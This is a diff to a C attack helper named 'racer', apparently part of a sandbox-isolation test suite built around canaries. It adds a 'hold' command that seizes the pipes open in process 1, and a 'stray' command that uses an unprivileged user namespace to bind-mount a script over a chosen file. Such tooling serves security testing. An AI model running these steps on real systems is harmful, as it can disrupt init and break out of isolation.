@@ -5,11 +5,13 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdarg.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
@@ -159,6 +161,41 @@ static void trace(int pid, const char *ignored) {
     if (!ptrace(PTRACE_SEIZE, pid, 0, 0) && !ptrace(PTRACE_INTERRUPT, pid, 0, 0)) say("stopped");
 }
 
+/* hold: keeps all that process 1 has open, for as long as it can, and lets it go on if there is a gate that does. */
+static _Noreturn void hold(void) {
+    DIR *entries = opendir("/proc/1/fd");
+    int held = 0;
+    for (struct dirent *e; entries && (e = readdir(entries));) {
+        struct stat s;
+        int fd = *e->d_name == '.' ? -1 : openat(dirfd(entries), e->d_name, O_RDWR | O_NONBLOCK);
+        if (fd >= 0 && !fstat(fd, &s) && S_ISFIFO(s.st_mode)) held++;
+    }
+    printf("holding %d\n", held);
+    fflush(stdout);
+    for (;;) pause();
+}
+
+/* stray FILE: a payload without rights that gets them over a tree of its own, where a script of its lies over FILE. */
+static _Noreturn void stray(const char *file) {
+    char map[64], note[256];
+    int uid = getuid(), fd;
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) goto failed;
+    snprintf(map, sizeof map, "0 %d 1", uid);
+    if ((fd = open("/proc/self/uid_map", O_WRONLY)) < 0 || write(fd, map, strlen(map)) < 0) goto failed;
+    close(fd);
+    if ((fd = open("/tmp/script", O_CREAT | O_WRONLY | O_TRUNC, 0755)) < 0) goto failed;
+    snprintf(note, sizeof note, "#!/bin/sh\necho owned\ngrep CapEff /proc/self/status\n");
+    if (write(fd, note, strlen(note)) < 0) goto failed;
+    close(fd);
+    if (mount("/tmp/script", file, 0, MS_BIND, 0)) goto failed;
+    puts("strayed");
+    fflush(stdout);
+    for (;;) pause();
+failed:
+    perror("stray");
+    exit(1);
+}
+
 int main(int argc, char **argv) {
     const char *verb = argc > 1 ? argv[1] : "", *subject = argc > 2 ? argv[2] : "";
     if (!strcmp(verb, "steal")) watch(stop_and_look, subject);
@@ -166,6 +203,8 @@ int main(int argc, char **argv) {
     if (!strcmp(verb, "leak") && getenv("WORD")) watch(read_all, getenv("WORD"));
     if (!strcmp(verb, "halt")) watch(halt, subject);
     if (!strcmp(verb, "trace")) watch(trace, subject);
-    fprintf(stderr, "racer: steal CANARY | look CANARY | leak | halt | trace\n");
+    if (!strcmp(verb, "hold")) hold();
+    if (!strcmp(verb, "stray") && argc > 2) stray(subject);
+    fprintf(stderr, "racer: steal CANARY | look CANARY | leak | halt | trace | hold | stray FILE\n");
     return 2;
 }
